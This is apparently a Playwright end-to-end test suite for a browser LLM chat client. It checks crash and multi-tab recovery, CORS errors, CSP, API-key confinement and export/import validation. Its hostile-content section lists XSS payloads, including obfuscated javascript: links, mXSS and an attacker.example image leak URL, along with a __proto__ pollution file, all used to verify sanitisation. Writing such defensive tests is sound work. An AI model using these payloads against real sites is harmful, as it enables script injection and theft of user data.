/**
 * Issue 5 in a real browser: the faults only a browser shows (tabs closed, crashed, racing),
 * hostile content, the Content-Security-Policy, where API keys go, and export/import.
 * Each test asserts what the user would notice; docs/RELIABILITY.md maps them to the issue.
 */
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { startMockLlm } from '../fixtures/mock-llm';
import { addMockProvider, lastReply, MOCK_URL, newConversation, replyText, send } from './helpers';

const MOCK_ORIGIN = new URL(MOCK_URL).origin;

interface LoggedRequest {
  method: string;
  path: string;
  model?: string;
  aborted: boolean;
  finishedAt?: number;
  headers: Record<string, string | undefined>;
  body?: { messages?: Array<{ role: string; content: string }> };
}

/** The mock provider's request log (shared by the whole suite: filter by a unique model id). */
async function mockRequests(): Promise<LoggedRequest[]> {
  return (await fetch(`${MOCK_ORIGIN}/__mock/requests`)).json() as Promise<LoggedRequest[]>;
}

async function chatRequestsFor(model: string): Promise<LoggedRequest[]> {
  return (await mockRequests()).filter((request) => request.path === '/v1/chat/completions' && request.model === model);
}

/** A model id of its own per test, so the shared mock's log can be read per test. */
function uniqueModel(base: string): string {
  return `${base}:tag=${Date.now()}${Math.floor(Math.random() * 1000)}`;
}

/** Whitespace as rendered differs from the source text (paragraph breaks); the words don't. */
function words(text: string): string {
  return text.replace(/\s+/g, ' ').trim();
}

async function replyWords(page: Page): Promise<string> {
  return words(await lastReply(page).getByTestId('message-content').innerText());
}

async function openSecondTab(context: BrowserContext, conversationId: string): Promise<Page> {
  const other = await context.newPage();
  await other.goto(`/c/${conversationId}`);
  await expect(other.getByTestId('composer')).toBeVisible();
  return other;
}

/** Crash a tab's renderer process (no pagehide, no unload). The CDP call never answers. */
async function crashRenderer(context: BrowserContext, page: Page): Promise<void> {
  const crashed = page.waitForEvent('crash');
  const cdp = await context.newCDPSession(page);
  void cdp.send('Page.crash').catch(() => undefined);
  await crashed;
}

async function sharedWorkerCount(context: BrowserContext, page: Page): Promise<number> {
  const cdp = await context.newCDPSession(page);
  const { targetInfos } = (await cdp.send('Target.getTargets')) as { targetInfos: Array<{ type: string }> };
  await cdp.detach();
  return targetInfos.filter((target) => target.type === 'shared_worker').length;
}

test.describe('faults', () => {
  test('fault 7: two tabs send at the same moment: one run; the other tab is told it is busy and keeps its text', async ({
    page,
    context,
  }) => {
    await addMockProvider(page);
    const model = uniqueModel('mock-slow:tokens=40:delay=40');
    const id = await newConversation(page, model);
    const other = await openSecondTab(context, id);

    await page.getByTestId('composer').fill('Question from tab one');
    await other.getByTestId('composer').fill('Question from tab two');
    await Promise.all([page.getByTestId('composer').press('Enter'), other.getByTestId('composer').press('Enter')]);

    for (const tab of [page, other]) await expect(lastReply(tab)).toHaveAttribute('data-status', 'complete', { timeout: 20_000 });
    expect(await chatRequestsFor(model)).toHaveLength(1);
    const userMessages = page.locator('[data-testid="message"][data-role="user"]');
    await expect(userMessages).toHaveCount(1);
    const winner = (await userMessages.innerText()).includes('tab one') ? page : other;
    const loser = winner === page ? other : page;
    const loserText = loser === page ? 'Question from tab one' : 'Question from tab two';
    await expect(loser.getByTestId('chat-error')).toContainText('already being written');
    await expect(loser.getByTestId('composer')).toHaveValue(loserText);
    await expect(winner.getByTestId('chat-error')).toHaveCount(0);
    await expect(winner.getByTestId('composer')).toHaveValue('');
  });

  test('fault 2: a tab’s renderer crashes mid-reply: the worker notices through its lock and the other tab gets the whole reply', async ({
    page,
    context,
  }) => {
    await addMockProvider(page);
    const model = uniqueModel('mock-slow:tokens=80:delay=40');
    const id = await newConversation(page, model);
    // The second tab starts the reply and is the one that crashes; the first tab started the
    // worker (see the next test for a crash of that one).
    const other = await openSecondTab(context, id);
    await send(other, 'Go');
    await expect(lastReply(page)).toHaveAttribute('data-status', 'streaming');
    const locks = () => page.evaluate(() => navigator.locks.query());
    const tabLocks = (snapshot: LockManagerSnapshot) =>
      (snapshot.held ?? []).filter((lock) => lock.name?.startsWith('parley-tab-'));
    expect(tabLocks(await locks())).toHaveLength(2);

    await crashRenderer(context, other);

    // The dead tab's lock was released and the worker, waiting on it, was granted it.
    await expect.poll(async () => tabLocks(await locks()).length).toBe(1);
    await expect.poll(async () => (await locks()).pending?.filter((lock) => lock.name?.startsWith('parley-tab-')).length).toBe(1);
    await expect(lastReply(page)).toHaveAttribute('data-status', 'complete', { timeout: 20_000 });
    expect(await replyWords(page)).toBe(words(await replyText(model)));
  });

  test('fault 2: the crashed renderer also ran the worker: the other tab recovers the reply as interrupted and Resume completes it', async ({
    page,
    context,
  }) => {
    await addMockProvider(page);
    const model = uniqueModel('mock-slow:tokens=120:delay=30');
    const id = await newConversation(page, model);
    const other = await openSecondTab(context, id);
    await send(page, 'Go');
    await expect(lastReply(other)).toHaveAttribute('data-status', 'streaming');
    await expect.poll(async () => (await replyWords(other)).split(' ').length).toBeGreaterThan(30);
    expect(await sharedWorkerCount(context, other)).toBe(1);

    // Chromium runs the SharedWorker in the renderer of the tab that started it.
    await crashRenderer(context, page);

    // The surviving tab learns the core died (its lock), reloads onto a new core, and shows the
    // reply as interrupted with what was checkpointed — never "writing" forever.
    await expect(lastReply(other)).toHaveAttribute('data-status', 'interrupted', { timeout: 20_000 });
    const kept = await replyWords(other);
    const expected = words(await replyText(model));
    expect(kept.length).toBeGreaterThan(0);
    expect(expected.startsWith(kept)).toBe(true);
    const messageId = await lastReply(other).getAttribute('data-id');

    await other.getByTestId('resume').click();
    await expect(lastReply(other)).toHaveAttribute('data-status', 'complete', { timeout: 20_000 });
    await expect(lastReply(other)).toHaveAttribute('data-id', messageId!);
    expect(await replyWords(other)).toBe(expected);
    await expect(other.locator('[data-testid="message"][data-role="assistant"]')).toHaveCount(1);
  });

  test('fault 6: a provider that refuses browser requests (CORS): the message names CORS and a way out, and the typed message is kept', async ({
    page,
  }) => {
    const blocking = await startMockLlm({ cors: false });
    try {
      await page.goto('/settings');
      await page.getByTestId('add-provider').click();
      await page.getByTestId('provider-preset').selectOption('custom');
      await page.getByTestId('provider-name').fill('No CORS');
      await page.getByTestId('provider-base-url').fill(blocking.url);
      await page.getByTestId('provider-save').click();
      await expect(page.getByTestId('provider-error')).toContainText('does not allow requests from a browser (CORS)');
      await expect(page.getByTestId('provider-error')).toContainText('proxy');
      await page.getByRole('button', { name: 'Save anyway' }).click();
      await expect(page.getByTestId('provider-item')).toHaveCount(1);

      await newConversation(page, 'mock-fast');
      await send(page, 'Can you hear me?');
      await expect(lastReply(page)).toHaveAttribute('data-status', 'error');
      await expect(lastReply(page).getByTestId('message-error')).toContainText(
        'No CORS does not allow requests from a browser (CORS)',
      );
      await expect(page.locator('[data-testid="message"][data-role="user"]')).toHaveText(/Can you hear me\?/);
    } finally {
      await blocking.close();
    }
  });

  test('fault 1: every tab closed mid-reply without extendedLifetime: interrupted with the checkpointed text, Resume completes it without repeats', async ({
    page,
    context,
  }) => {
    // The worker must die with its last tab (the PWA's switch, read in src/client/connect.ts).
    await context.addInitScript(() => localStorage.setItem('parley:extended-lifetime', 'off'));
    await addMockProvider(page);
    const model = uniqueModel('mock-slow:tokens=300:delay=30');
    const expected = words(await replyText(model));
    const id = await newConversation(page, model);
    await send(page, 'Tell me a long story');
    await expect.poll(async () => (await replyWords(page)).split(' ').length, { timeout: 15_000 }).toBeGreaterThan(20);
    // Seen on screen at least one checkpoint interval (250 ms) before the close.
    const seenBeforeClose = await replyWords(page);
    await expect.poll(async () => (await replyWords(page)).length - seenBeforeClose.length).toBeGreaterThan(120);

    for (const tab of context.pages()) await tab.close();
    // The worker died with the last tab: the provider saw the request hang up.
    await expect.poll(async () => (await chatRequestsFor(model))[0]?.aborted, { timeout: 10_000 }).toBe(true);

    const reopened = await context.newPage();
    await reopened.goto(`/c/${id}`);
    await expect(lastReply(reopened)).toHaveAttribute('data-status', 'interrupted');
    const kept = await replyWords(reopened);
    expect(kept.startsWith(seenBeforeClose)).toBe(true);
    expect(expected.startsWith(kept)).toBe(true);
    expect(kept.length).toBeLessThan(expected.length);
    const messageId = await lastReply(reopened).getAttribute('data-id');

    await reopened.getByTestId('resume').click();
    await expect(lastReply(reopened)).toHaveAttribute('data-status', 'complete', { timeout: 30_000 });
    await expect(lastReply(reopened)).toHaveAttribute('data-id', messageId!);
    expect(await replyWords(reopened)).toBe(expected);
    await expect(reopened.locator('[data-testid="message"][data-role="assistant"]')).toHaveCount(1);
    // The provider was asked to continue from the kept text, not to start over.
    const resumed = (await chatRequestsFor(model))[1];
    expect(resumed.body?.messages?.at(-1)?.role).toBe('assistant');
    expect(words(resumed.body?.messages?.at(-1)?.content ?? '')).toBe(kept);
  });
});

/** Every way we know to make rendered text run script; each sets `window.__xss` or calls alert. */
const PAYLOADS = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss = 1">',
  '<img src=x onerror=alert(1)>',
  '<svg onload="window.__xss = 1"><circle r="5"/></svg>',
  '<svg><script>window.__xss = 1</script></svg>',
  '<iframe src="javascript:parent.__xss = 1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>',
  '<object data="javascript:window.__xss = 1"></object><embed src="javascript:window.__xss = 1">',
  '[a markdown link](javascript:window.__xss=1)',
  '[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="javascript:window.__xss = 1">an html link</a>',
  '<a href="  JaVaScRiPt:window.__xss = 1">a mixed-case link</a>',
  '<a href="java&#x09;script:window.__xss = 1">an entity-split link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">an html data link</a>',
  '![an image](javascript:window.__xss=1)',
  '![a leak](https://attacker.example/leak.png?conversation=secret)',
  '<details open ontoggle="window.__xss = 1">details</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 1">',
  '<form action="javascript:window.__xss = 1"><button>Submit</button></form>',
  '<style>body { display: none }</style>',
  '<div style="position:fixed;inset:0;background:red">an overlay</div>',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss = 1">',
  '&lt;script&gt;alert(1)&lt;/script&gt; stays text',
  'invoice\u202Efdp.exe and zero\u200Bwidth [click](jav\u200Bascript:alert(1))',
  '<a href="https://example.com/docs" target="_self">an html https link</a>',
  '[a plain link](https://example.com/docs)',
];

/** Records CSP violations from the first script on: the sanitiser should leave CSP nothing to block. */
async function watchViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const violations: Array<{ directive: string; blocked: string }> = [];
    (window as unknown as { __violations: typeof violations }).__violations = violations;
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
}

async function violations(page: Page): Promise<Array<{ directive: string; blocked: string }>> {
  return page.evaluate(() => (window as unknown as { __violations: Array<{ directive: string; blocked: string }> }).__violations);
}

test.describe('hostile content', () => {
  test('XSS payloads as user input and as model output: nothing runs, links are safe, text stays readable', async ({
    page,
    context,
  }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await watchViolations(context);
    await addMockProvider(page);
    const id = await newConversation(page, 'mock-echo');

    for (const [index, payload] of PAYLOADS.entries()) {
      await send(page, payload);
      await expect(page.locator('[data-testid="message"][data-role="assistant"]')).toHaveCount(index + 1);
      await expect(lastReply(page)).toHaveAttribute('data-status', 'complete');
    }
    // Links are clicked too: a surviving javascript: href would run now.
    for (const link of await page.locator('[data-testid="message-content"] a').all()) {
      if ((await link.getAttribute('href'))?.startsWith('https:')) continue;
      await link.click();
    }

    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(new URL(page.url()).pathname).toBe(`/c/${id}`);
    await expect(page.getByTestId('composer')).toBeVisible();

    const report = await page.evaluate(() => {
      const problems: string[] = [];
      const contents = [...document.querySelectorAll('[data-testid="message-content"]')];
      for (const content of contents) {
        for (const element of content.querySelectorAll(
          'script, iframe, object, embed, style, form, svg, math, base, meta, link, details',
        )) {
          problems.push(`<${element.tagName.toLowerCase()}> survived`);
        }
        for (const element of content.querySelectorAll('*')) {
          for (const attribute of element.attributes) {
            if (attribute.name.startsWith('on') || attribute.name === 'style' || attribute.name === 'srcdoc') {
              problems.push(`${attribute.name} on <${element.tagName.toLowerCase()}>`);
            }
          }
        }
        for (const link of content.querySelectorAll('a')) {
          if (link.getAttribute('rel') !== 'noopener noreferrer') problems.push(`link without rel: ${link.outerHTML}`);
          if (link.hasAttribute('href') && !['http:', 'https:'].includes(link.protocol))
            problems.push(`unsafe href: ${link.outerHTML}`);
        }
        for (const image of content.querySelectorAll('img')) {
          if (image.hasAttribute('src') && !['http:', 'https:'].includes(new URL(image.src).protocol))
            problems.push(`unsafe src: ${image.outerHTML}`);
        }
      }
      return { problems, count: contents.length };
    });
    expect(report.problems).toEqual([]);
    expect(report.count).toBe(PAYLOADS.length * 2);

    // Readable: what the user typed is shown exactly as typed; the model's words as text (raw
    // HTML in a reply is shown as the source it is).
    const userTexts = await page
      .locator('[data-testid="message"][data-role="user"] [data-testid="message-content"]')
      .allTextContents();
    expect(userTexts.map((text) => text.trim())).toEqual(PAYLOADS);
    const replies = page.locator('[data-testid="message"][data-role="assistant"] [data-testid="message-content"]');
    await expect(replies.nth(PAYLOADS.indexOf('&lt;script&gt;alert(1)&lt;/script&gt; stays text'))).toHaveText(
      'You said: <script>alert(1)</script> stays text',
    );
    await expect(replies.nth(PAYLOADS.indexOf('[a markdown link](javascript:window.__xss=1)'))).toHaveText(
      'You said: a markdown link',
    );
    await expect(
      replies.nth(PAYLOADS.indexOf('<div style="position:fixed;inset:0;background:red">an overlay</div>')),
    ).toContainText('an overlay');
    await expect(replies.nth(1)).toHaveText('You said: <img src=x onerror="window.__xss = 1">');
    await expect(replies.last()).toHaveText('You said: a plain link');
    expect(await replies.last().locator('a').getAttribute('target')).toBe('_blank');
    await expect(replies.nth(PAYLOADS.length - 3)).toContainText('invoice\u202Efdp.exe');
    // The first message named the conversation: as text.
    await expect(page.locator(`[data-testid="conversation-item"][data-id="${id}"]`)).toHaveText(
      '<script>window.__xss = 1</script>',
    );

    // The sanitiser did the work; the CSP only had the remote image (a leak) left to refuse.
    expect(await violations(page)).toEqual([
      { directive: 'img-src', blocked: 'https://attacker.example/leak.png?conversation=secret' },
    ]);
  });

  test('Content-Security-Policy: present, scripts only from the app, and an injected inline script does not run', async ({
    page,
    context,
  }) => {
    await watchViolations(context);
    await addMockProvider(page);
    const policy = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
    const directives = Object.fromEntries(
      policy
        .split(';')
        .map((part) => part.trim().split(/\s+/))
        .map(([name, ...values]) => [name, values]),
    );
    expect(directives['script-src']).toEqual(["'self'"]);
    expect(directives['object-src']).toEqual(["'none'"]);
    expect(directives['base-uri']).toEqual(["'self'"]);
    expect(directives['worker-src']).toEqual(["'self'"]);
    expect(directives['connect-src']).toEqual(
      expect.arrayContaining(["'self'", 'https:', 'http://localhost:*', 'http://127.0.0.1:*']),
    );
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);

    // A whole session (markdown, highlighted code, settings) needs nothing the policy forbids.
    await newConversation(page, 'mock-markdown');
    await send(page, 'Show me everything');
    await expect(lastReply(page)).toHaveAttribute('data-status', 'complete', { timeout: 20_000 });
    await expect(lastReply(page).locator('pre code .hljs-keyword').first()).toBeVisible();
    expect(await violations(page)).toEqual([]);

    const injected = await page.evaluate(async () => {
      const global = window as unknown as Record<string, unknown>;
      const script = document.createElement('script');
      script.textContent = 'window.__inlineScript = 1';
      document.body.append(script);
      const image = document.createElement('img');
      image.setAttribute('onload', 'window.__inlineHandler = 1');
      image.src = '/icon.svg';
      document.body.append(image);
      await new Promise((resolve) => image.addEventListener('load', resolve));
      return { script: global.__inlineScript, handler: global.__inlineHandler };
    });
    expect(injected).toEqual({ script: undefined, handler: undefined });
    const blocked = (await violations(page)).map((violation) => violation.directive);
    expect(blocked).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr']));
  });
});

interface SeenRequest {
  from: 'page' | 'worker';
  url: string;
  headers: string;
  body: string;
}

/**
 * Watch the SharedWorker's network and console through the DevTools protocol: Playwright's own
 * request events do not cover a SharedWorker, and the worker makes every provider request.
 */
async function watchWorker(page: Page, seen: SeenRequest[], logs: string[]): Promise<void> {
  const session = await page.context().browser()!.newBrowserCDPSession();
  const sharedWorker = async () => {
    const { targetInfos } = (await session.send('Target.getTargets')) as {
      targetInfos: Array<{ type: string; targetId: string }>;
    };
    return targetInfos.find((target) => target.type === 'shared_worker');
  };
  await expect.poll(async () => Boolean(await sharedWorker())).toBe(true);
  const { sessionId } = (await session.send('Target.attachToTarget', {
    targetId: (await sharedWorker())!.targetId,
    flatten: false,
  })) as { sessionId: string };
  session.on('Target.receivedMessageFromTarget', (event: { message: string }) => {
    const message = JSON.parse(event.message) as { method?: string; params?: any };
    if (message.method === 'Network.requestWillBeSent') {
      const request = message.params.request as { url: string; headers: Record<string, string>; postData?: string };
      seen.push({ from: 'worker', url: request.url, headers: JSON.stringify(request.headers), body: request.postData ?? '' });
    }
    if (message.method === 'Runtime.consoleAPICalled') logs.push(JSON.stringify(message.params.args));
  });
  let id = 0;
  for (const method of ['Network.enable', 'Runtime.enable']) {
    await session.send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id: ++id, method, params: {} }) });
  }
}

test.describe('API keys', () => {
  const SECRET = 'sk-parley-e2e-secret-0123456789abcdef';

  test('go only to their provider, never into logs, the page or an export unless ticked', async ({ page, context }) => {
    const seen: SeenRequest[] = [];
    const logs: string[] = [];
    context.on('request', (request) => {
      seen.push({ from: 'page', url: request.url(), headers: JSON.stringify(request.headers()), body: request.postData() ?? '' });
    });
    page.on('console', (message) => logs.push(message.text()));

    await page.goto('/settings');
    await watchWorker(page, seen, logs);
    await page.getByTestId('add-provider').click();
    await page.getByTestId('provider-preset').selectOption('custom');
    await page.getByTestId('provider-name').fill('Keyed mock');
    await page.getByTestId('provider-base-url').fill(MOCK_URL);
    await page.getByTestId('provider-api-key').fill(SECRET);
    await page.getByTestId('provider-save').click();
    await expect(page.getByTestId('provider-item')).toHaveCount(1);
    // Masked where it is shown.
    expect(await page.locator('body').innerText()).not.toContain(SECRET);

    await newConversation(page, 'mock-fast');
    await send(page, 'Hello');
    await expect(lastReply(page)).toHaveAttribute('data-status', 'complete');
    await newConversation(page, 'mock-401');
    await send(page, 'Hello again');
    await expect(lastReply(page)).toHaveAttribute('data-status', 'error');
    expect(await page.locator('body').innerText()).not.toContain(SECRET);

    await page.goto('/settings');
    const exportFile = async () => {
      const download = page.waitForEvent('download');
      await page.getByTestId('export-data').click();
      const stream = await (await download).createReadStream();
      const chunks: Buffer[] = [];
      for await (const chunk of stream) chunks.push(chunk as Buffer);
      return Buffer.concat(chunks).toString('utf8');
    };
    expect(await exportFile()).not.toContain(SECRET);
    await page.getByTestId('export-include-keys').check();
    await expect(page.getByTestId('export-keys-warning')).toBeVisible();
    expect(await exportFile()).toContain(SECRET);

    // The worker's requests were seen; the key went only to the mock, only in the header.
    const withKey = seen.filter((request) => `${request.url}${request.headers}${request.body}`.includes(SECRET));
    expect(withKey.some((request) => request.from === 'worker' && request.url.startsWith(`${MOCK_URL}/chat/completions`))).toBe(
      true,
    );
    for (const request of withKey) {
      expect(request.url.startsWith(`${MOCK_URL}/`), request.url).toBe(true);
      expect(request.headers).toContain(`Bearer ${SECRET}`);
      expect(request.url + request.body).not.toContain(SECRET);
    }
    expect(withKey.filter((request) => request.from === 'page')).toEqual([]);
    const chats = (await mockRequests()).filter(
      (request) => request.path === '/v1/chat/completions' && request.headers.authorization === `Bearer ${SECRET}`,
    );
    expect(chats.length).toBeGreaterThanOrEqual(2);
    expect(logs.join('\n')).not.toContain(SECRET);
  });
});

/** A Parley export of one conversation; `messages` of them, alternating user and assistant. */
function exportFile(
  title: string,
  messages: number,
  patch: (message: Record<string, unknown>, index: number) => void = () => undefined,
): string {
  const conversationId = `imported-${title.toLowerCase().replace(/\W+/g, '-')}-${Date.now()}`;
  return JSON.stringify({
    format: 'parley-export',
    version: 1,
    exportedAt: Date.now(),
    providers: [],
    models: [],
    conversations: [
      {
        id: conversationId,
        title,
        providerId: '',
        modelId: '',
        createdAt: 1_000,
        updatedAt: Date.now(),
        usage: { promptTokens: 0, completionTokens: 0 },
        cost: 0,
      },
    ],
    messages: Array.from({ length: messages }, (_, index) => {
      const message: Record<string, unknown> = {
        id: `${conversationId}-m${index}`,
        conversationId,
        role: index % 2 === 0 ? 'user' : 'assistant',
        content: `Message number ${index}`,
        status: 'complete',
        createdAt: 1_000 + index,
        updatedAt: 1_000 + index,
      };
      patch(message, index);
      return message;
    }),
  });
}

async function importFile(page: Page, name: string, text: string): Promise<void> {
  await page.getByTestId('import-file').setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
}

test.describe('export and import', () => {
  test('an export imports into a fresh browser profile; a broken file is refused with the reason and nothing changes', async ({
    page,
    browser,
  }) => {
    await addMockProvider(page);
    const id = await newConversation(page, 'mock-fast');
    await send(page, 'Plan a trip');
    await expect(lastReply(page)).toHaveAttribute('data-status', 'complete');
    await page.goto('/settings');
    const download = page.waitForEvent('download');
    await page.getByTestId('export-data').click();
    const path = await (await download).path();
    expect((await download).suggestedFilename()).toMatch(/^parley-\d{4}-\d{2}-\d{2}\.json$/);

    const fresh = await browser.newContext();
    try {
      const other = await fresh.newPage();
      await other.goto('/settings');
      await other.getByTestId('import-file').setInputFiles(path);
      await expect(other.getByTestId('import-report')).toHaveText('Imported 1 conversation, 2 messages and 1 provider.');
      await expect(other.locator(`[data-testid="conversation-item"][data-id="${id}"]`)).toHaveText('Plan a trip');
      await expect(other.getByTestId('provider-item')).toHaveCount(1);

      // Broken: the 12th message of "Trip" has no role. Rejected whole, with the reason.
      await importFile(
        other,
        'broken.json',
        exportFile('Trip', 20, (message, index) => void (index === 11 && delete message.role)),
      );
      await expect(other.getByTestId('import-error')).toHaveText(
        'This file cannot be imported: message 12 of conversation “Trip” has no role. Nothing was imported.',
      );
      await expect(other.getByTestId('import-report')).toHaveCount(0);
      await expect(other.getByTestId('conversation-item')).toHaveCount(1);
      // Not JSON at all, and a hostile key.
      await importFile(other, 'cut.json', exportFile('Trip', 3).slice(0, 200));
      await expect(other.getByTestId('import-error')).toContainText('it is not valid JSON');
      await importFile(other, 'proto.json', exportFile('Trip', 3).replace('"title"', '"__proto__":{"polluted":true},"title"'));
      await expect(other.getByTestId('import-error')).toContainText('a field named "__proto__"');
      await expect(other.getByTestId('conversation-item')).toHaveCount(1);
      expect(await other.evaluate(() => (({}) as Record<string, unknown>).polluted)).toBeUndefined();
    } finally {
      await fresh.close();
    }
  });

  test('fault 11: a conversation of 5,000 messages is listed and rendered without losing one', async ({ page }) => {
    test.setTimeout(120_000);
    await page.goto('/settings');
    await importFile(page, 'long.json', exportFile('Five thousand', 5000));
    await expect(page.getByTestId('import-report')).toHaveText('Imported 1 conversation, 5,000 messages and 0 providers.', {
      timeout: 30_000,
    });
    await page.locator('[data-testid="conversation-item"]', { hasText: 'Five thousand' }).click();
    const messages = page.getByTestId('message');
    await expect(messages.last()).toContainText('Message number 4999');
    for (let clicks = 0; clicks < 100; clicks++) {
      const more = page.getByRole('button', { name: /Show \d+ earlier messages/ });
      if ((await more.count()) === 0) break;
      await more.click();
    }
    await expect(messages).toHaveCount(5000, { timeout: 30_000 });
    await expect(messages.first()).toContainText('Message number 0');
    const numbers = await page
      .locator('[data-testid="message-content"]')
      .evaluateAll((contents) => contents.map((content) => Number(/Message number (\d+)/.exec(content.textContent ?? '')?.[1])));
    expect(numbers).toEqual(Array.from({ length: 5000 }, (_, index) => index));
  });
});
